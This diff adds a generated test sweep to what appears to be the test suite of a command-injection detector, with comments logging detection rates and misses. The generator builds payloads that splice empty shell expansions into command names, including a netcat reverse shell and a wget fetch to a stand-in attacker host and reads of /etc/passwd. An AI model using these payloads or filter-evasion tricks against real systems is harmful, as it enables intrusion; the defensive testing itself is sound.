@@ -156,6 +156,21 @@ export function cheatSheetGrid(): string[] {
   return [...new Set(out)];
 }
 
+// ---- empty expansions and quoting spliced into every inner position of a command name (written after the third fix)
+const EMPTIES = ['$@', '${@}', '$*', '${*}', '$9', '${9}', '$u', '${u}', "''", '""', '\\', '$()', '``', '$!'];
+const SPLICE_CMDS: Array<[string, string]> = [['id', ''], ['whoami', ''], ['uname', '-a'], ['cat', '/etc/passwd'], ['wget', 'attacker.test/s'],
+  ['nc', '-e sh attacker.test 4444'], ['sleep', '5'], ['ifconfig', '']];
+const SPLICE_SEPS = [';', '|', '&&', '%0a', '`', '$(', "';", '"|'];
+
+export function spliceGrid(): string[] {
+  const out: string[] = [];
+  for (const [n, a] of SPLICE_CMDS) for (let i = 1; i < n.length; i++) for (const e of EMPTIES) for (const sep of SPLICE_SEPS) {
+    const body = n.slice(0, i) + e + n.slice(i) + (a ? ' ' + a : '');
+    out.push(sep === '`' ? `\`${body}\`` : sep === '$(' ? `$(${body})` : sep + body);
+  }
+  return [...new Set(out)];
+}
+
 // ---- ordinary values of the same shapes
 const WORDS = ['sleep', 'date', 'time', 'type', 'sort', 'find', 'head', 'tail', 'more', 'less', 'cat', 'dog', 'echo', 'touch', 'test',
   'print', 'make', 'kill', 'wait', 'join', 'split', 'name', 'user', 'who', 'which', 'file', 'free', 'top', 'watch', 'yes', 'true', 'set', 'host', 'link'];
@@ -250,6 +265,12 @@ describe('cmdi sweeps (generated, round 10)', () => {
     const m = measure(d1, all, true);
     expect(m.length, `missed:\n${m.map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(MISSES.cheat);
   });
+  it('empty expansions and quotes spliced into command names x separators', () => {
+    const all = spliceGrid();
+    expect(all.length).toBe(COUNTS.splice);
+    const m = measure(d1, all, true);
+    expect(m.length, `missed:\n${m.map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(MISSES.splice);
+  });
   it('ordinary values next to the round-10 changes', () => {
     expect(BENIGN_NEAR.length).toBe(COUNTS.near);
     const f1 = measure(d1, BENIGN_NEAR, false);
@@ -289,11 +310,15 @@ describe('cmdi sweeps (generated, round 10)', () => {
 //   substitution's word, as a letter did). 22 left: start calc (21: start and a weak word is also "start date", "; start
 //   here"; start calc.exe and start with a strong program are caught), `wh``oami` (a backtick inside backticks closes the
 //   substitution: `wh` and `oami` run, nothing), &&set and `set` (set alone is a field name; set /a 1+1 is caught).
+// - empty expansions spliced into command names (written after the $9 fix, before the ${@} one): 2,331/3,024 on the
+//   pre-round build, 2,835/3,024 now (fixed: i$9d 168, i${@}d and i${*}d 336: ${ } around a special parameter is read like
+//   $@). 189 left, none can work: 168 i$ud wh$uoami (the variable's name takes the letters after it, $ud: the command is
+//   `i`) and 21 `w``hoami` (a backtick inside backticks closes the substitution).
 // - ordinary values next to the round-10 changes (39, written during the fixes): 2/39 at paranoia 1 and 2, on the
 //   pre-round build and now: "Use '`ls`' to list" (a file tool in a span with a quote glued after it, as before the round)
 //   and "`true`" or "`false`" (the no-ops fuzzers send to see whether backticks run).
 // - ordinary values flagged: "Touch; price; coffee", "Make; notes; travel" (touch and make alone opening a list run as
 //   commands); at paranoia 2 also "'cat'", "\"Echo\"", "touch-price", "the `print` field is optional" and the like.
-const COUNTS = { commix: 19200, obf: 2321, windows: 2450, technique: 864, cheat: 1311, benign: 1020, near: 39 };
-const MISSES = { commix: 430, obf: 27, windows: 105, technique: 0, cheat: 22 };
+const COUNTS = { commix: 19200, obf: 2321, windows: 2450, technique: 864, cheat: 1311, splice: 3024, benign: 1020, near: 39 };
+const MISSES = { commix: 430, obf: 27, windows: 105, technique: 0, cheat: 22, splice: 189 };
 const BENIGN_FLAGGED = { p1: 2, p2: 18, near1: 2, near2: 2 };
